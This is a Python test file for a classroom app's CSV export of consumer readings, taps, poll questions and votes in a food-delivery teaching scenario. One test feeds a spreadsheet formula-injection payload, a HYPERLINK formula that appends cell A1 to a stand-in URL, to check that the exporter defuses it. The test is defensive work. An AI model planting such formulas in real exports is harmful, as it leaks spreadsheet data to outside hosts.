"""A class as a table: true of every tap and vote, harmless in a spreadsheet, and it outlives its process."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from asgiref.sync import async_to_sync
from hypothesis import given
from hypothesis import strategies as st

from apps.classes import keeping, table
from apps.classes.models import RegisterPart
from apps.classes.people import Sent
from apps.classes.questions import Free
from apps.classes.readings import Readings
from apps.classes.register import Register
from apps.rooms.models import Room
from apps.scenarios.catalog import SCENARIOS
from apps.scenarios.refusals import Refused
from tests.unit.test_sightings import run

STORY = SCENARIOS["food-delivery"]


def backlog(incarnation: int, cluster: str = "embedded", *hops: dict[str, Any]) -> dict[str, Any]:
    room = {"incarnation": incarnation, "cluster": cluster}
    return {"type": "backlog", "room": room, "hops": list(hops)}


def hops(*hops: dict[str, Any]) -> dict[str, Any]:
    return {"type": "hops", "hops": list(hops)}


def readings(*found: dict[str, Any], known: bool = False) -> Readings:
    seen = Readings()
    seen.take(1, found, known)
    return seen


def had(found: Readings, offset: int, log: int = 1) -> dict[str, str]:
    return found.of(log, "restaurant", "orders", 0, offset)


def register(*frames: dict[str, Any]) -> Register:
    made = Register()
    for frame in frames:
        made.saw(frame)
    return made


def tapped(book: Register, offset: int, incarnation: int = 1, name: str = "Amber Otter") -> None:
    book.tapped(name, Sent("orders", 0, offset, "amber-otter", "card", incarnation))


@async_to_sync
async def pieces(book: Register | None, room: Room, names: dict[int, str]) -> list[bytes]:
    return [piece async for piece in keeping.whole(room, book, names, STORY, "en")]


def rows(book: Register | None, room: Room, names: dict[int, str] | None = None) -> list[dict[str, str]]:
    text = b"".join(pieces(book, room, names or {})).decode()
    assert text.startswith(table.BOM)
    lines = list(csv.reader(io.StringIO(text.removeprefix(table.BOM), newline="")))
    assert len({len(line) for line in lines}) == 1, "a table is rectangular"
    return [dict(zip(lines[0], line, strict=True)) for line in lines[1:]]


def test_each_member_that_had_a_record_is_told_with_how_far_it_came() -> None:
    seen = readings(
        run("poll", "restaurant-1", 0, 9),
        run("process", "restaurant-1", 0, 5),
        run("commit", "restaurant-1", 0, 3),
    )
    assert had(seen, 3) == {"restaurant-1": "committed"}
    assert had(seen, 5) == {"restaurant-1": "handled"}
    assert had(seen, 9) == {"restaurant-1": "read"}
    assert had(seen, 10) == {}
    seen.take(1, [run("poll", "restaurant-2", 4, 9), run("commit", "restaurant-2", 4, 9)])
    assert had(seen, 5) == {"restaurant-1": "handled", "restaurant-2": "committed"}
    assert had(seen, 5, log=2) == {}


def test_a_flood_that_one_member_reads_is_one_run() -> None:
    seen = readings(*(run("commit", "restaurant-1", 10 * n, 10 * n + 9) for n in range(5000)))
    assert had(seen, 0) == had(seen, 49_999) == {"restaurant-1": "committed"}


@given(cuts=st.lists(st.integers(1, 20), min_size=1, max_size=10), told=st.integers(0, 60))
def test_what_a_backlog_tells_again_changes_nothing(cuts: list[int], told: int) -> None:
    """It may tell any end of what was told, or more."""
    seen, first = Readings(), 0
    for number, count in enumerate(cuts):
        seen.take(1, [run("poll", f"restaurant-{number % 2 + 1}", first, first + count - 1)])
        first += count
    before = [had(seen, offset) for offset in range(first)]
    seen.take(1, [run("poll", "restaurant-9", max(0, first - told), first - 1)] if told else [], known=True)
    assert [had(seen, offset) for offset in range(first)] == before


@pytest.mark.django_db
def test_a_tap_is_told_with_its_place_and_who_read_it_in_which_log() -> None:
    room = Room.objects.create(scenario=STORY.slug)
    done = run("commit", "restaurant-1", 0, 0)
    book = register(backlog(3), hops(done), backlog(4))
    tapped(book, 0, incarnation=3)
    tapped(book, 0, incarnation=4)
    first, second = rows(book, room)
    assert (first["Name"], first["Key"]) == ("Amber Otter", "amber-otter")
    assert [first[name] for name in ("Kind", "Topic", "Partition", "Offset", "Log")] == [
        "tap", "orders", "0", "0", "1",
    ]  # fmt: skip
    assert first["Read by: Restaurant"] == "restaurant-1: committed"
    assert (second["Log"], second["Read by: Restaurant"]) == ("2", "")


@pytest.mark.django_db
def test_a_log_that_outlives_a_life_is_one_log_until_it_is_emptied() -> None:
    room = Room.objects.create(scenario=STORY.slug)
    book = register(backlog(1, "external"))
    tapped(book, 0, incarnation=1)
    book.saw(backlog(2, "external", run("commit", "restaurant-1", 0, 0)))
    book.emptied()
    book.saw(backlog(3, "external"))
    tapped(book, 0, incarnation=3)
    first, second = rows(book, room)
    assert (first["Log"], first["Read by: Restaurant"]) == ("1", "restaurant-1: committed")
    assert (second["Log"], second["Read by: Restaurant"]) == ("2", "")


@pytest.mark.django_db
def test_a_question_is_told_with_its_answers_and_votes() -> None:
    room = Room.objects.create(scenario=STORY.slug)
    book, question = Register(), Free("How many?", ["one", "two"])
    book.asked(question)
    for person, choice in ((1, "1"), (2, "2"), (3, "2")):
        question.vote(person, choice)
    question.answered("2", "")
    found = rows(book, room, {1: "Amber Otter", 2: "Bold Fox", 3: "Calm Hare"})
    told = [(row["Kind"], row["Name"], row["Answer"], row["Votes"], row["Right"]) for row in found]
    assert told == [
        ("question", "", "", "3", ""),
        ("answer", "", "one", "1", "no"),
        ("answer", "", "two", "2", "yes"),
        ("vote", "Amber Otter", "one", "", "no"),
        ("vote", "Bold Fox", "two", "", "yes"),
        ("vote", "Calm Hare", "two", "", "yes"),
    ]
    assert {row["Question"] for row in found} == {"How many?"}


@pytest.mark.parametrize("start", [*"=+-@\t\r", "＝", "＋", "－", "＠"])
@pytest.mark.django_db
def test_no_cell_is_a_formula(start: str) -> None:
    room = Room.objects.create(scenario=STORY.slug)
    book, words = Register(), f'{start}HYPERLINK("http://x/?"&A1)'
    tapped(book, 0, name=words)
    book.asked(Free(words, [words, "no, “quoted”\nand in two lines"]))
    found = rows(book, room)
    cells = [cell for row in found for cell in row.values()]
    assert cells.count(f"'{words}") == 5, "in the tap, thrice with the question, and as an answer"
    assert not [cell for cell in cells if cell.startswith(start)]


@pytest.mark.django_db
def test_what_was_stored_is_told_first_and_by_the_same_process_once() -> None:
    room = Room.objects.create(scenario=STORY.slug)
    book = Register()
    tapped(book, 0)
    for _time in range(2):
        async_to_sync(keeping.store)(room, book, {}, STORY)
    assert RegisterPart.objects.filter(room=room).count() == 1
    later = Register()
    later.began = book.began + 1
    tapped(later, 1)
    assert [row["Offset"] for row in rows(later, room)] == ["0", "1"]
    assert [row["Offset"] for row in rows(book, room)] == ["0"]
    assert [row["Offset"] for row in rows(None, room)] == ["0"]


@pytest.mark.parametrize(
    "answers", [[], ["one"], ["one", "one"], [str(n) for n in range(7)], ["one", "x" * 301]]
)
def test_what_nobody_could_choose_from_is_no_free_question(answers: list[str]) -> None:
    with pytest.raises(Refused):
        Free("How many?", answers)
